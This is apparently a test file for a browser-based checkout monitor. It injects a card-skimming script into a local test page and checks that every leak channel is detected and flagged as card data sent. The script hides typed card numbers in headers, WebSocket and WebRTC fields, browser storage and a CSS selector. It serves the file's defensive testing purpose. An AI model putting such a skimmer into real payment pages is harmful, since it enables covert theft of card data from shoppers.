import { hash } from 'node:crypto'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
import { withBrowser } from '../../../net/browser.ts'
import { inventoryFrom } from './inventory.ts'
import { visit } from './visit.ts'
import { judge } from './watch.ts'

const chromium = inject('chromium')

/** What is typed leaves by ways that are in no address and no body, or is kept in places that are no storage by name. */
const thief = `
const f = document.forms[0].cardnumber;
f.addEventListener('change', async () => {
  fetch('/a', { headers: { 'x-trace': f.value } });
  const x = new XMLHttpRequest(); x.open('GET', '/b'); x.setRequestHeader('x-span', f.value); x.send();
  try { new WebSocket('ws://' + location.host + '/w', [f.value]); } catch {}
  const p = new RTCPeerConnection(); p.createDataChannel(f.value); p.setConfiguration({ iceServers: [{ urls: 'turn:127.0.0.1', username: f.value, credential: 'x' }] });
  (await caches.open('c')).put('/font', new Response(f.value));
  const file = await (await navigator.storage.getDirectory()).getFileHandle('t', { create: true });
  const w = await file.createWritable(); await w.write(f.value); await w.close();
  cookieStore.set('theme', f.value);
  fetch('/s', { method: 'POST', duplex: 'half', body: new Blob([f.value]).stream() }).catch(() => {});
  fetch(new Request('/r', { method: 'POST', body: new Blob([f.value]) }));
});
const live = new WebSocket('ws://' + location.host + '/live');
addEventListener('pagehide', (event) => { if (event.isTrusted) live.send(f.value); });
const paying = new WebSocket('ws://localhost:' + location.port + '/open');
document.querySelector('button').addEventListener('click', () => paying.send(JSON.stringify({ order: 7, n: f.value })));
const sheet = new CSSStyleSheet(); sheet.replaceSync('input[value^="4"]{background:url(/four.png)}'); document.adoptedStyleSheets = [sheet];`

describe.runIf(chromium)('ways out that are in no address and no body', () => {
  let server: Server
  let url = ''
  beforeAll(async () => {
    const page = `<!doctype html><title>Checkout</title><form method=post action=/pay><label>Card number <input name=cardnumber autocomplete=cc-number></label><button>Pay</button></form><script>${thief}</script>`
    server = createServer((_request, response) => response.writeHead(200, { 'content-type': 'text/html' }).end(page))
    // A socket that is opened and says nothing (RFC 6455, 4.2.2).
    server.on('upgrade', (request, socket) => {
      const key = `${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`
      socket.on('error', () => undefined)
      socket.write(
        `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${hash('sha1', key, 'base64')}\r\n\r\n`,
      )
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/checkout`
  })
  afterAll(() => {
    server.close()
    server.closeAllConnections()
  })

  it('are seen', async () => {
    const { signal } = new AbortController()
    const seen = await withBrowser({ executable: chromium! }, (browser) =>
      visit(browser, { url, steps: [], profile: { name: 'desktop' }, signal }),
    )
    const carrying = seen.requests.filter((item) => item.carries === 'plain')
    expect([...new Set(carrying.map(({ kind, url: to }) => `${kind} ${to.replace(/^.*\//, '')}`))].sort()).toEqual(
      expect.arrayContaining([
        'fetch r',
        'fetch s',
        'header a',
        'header b',
        'webrtc ',
        'websocket live',
        'websocket open',
        'websocket w',
      ]),
    )
    // A frame on a connection that was open before pay was pressed is not held back, but reported where it went.
    const inventory = inventoryFrom([{ ...seen, requests: [] }], '2026-01-01T00:00:00Z')
    expect(judge([seen], inventory).alerts).toContainEqual(
      expect.objectContaining({
        rule: 'payment/card-data-sent',
        title: expect.stringContaining('localhost') as string,
      }),
    )
    expect([...new Set(seen.stored)].sort()).toEqual(
      expect.arrayContaining(['cache entry', 'cookie theme', 'private file']),
    )
    expect(seen.readingStyles).toHaveLength(1)
  }, 60_000)
})
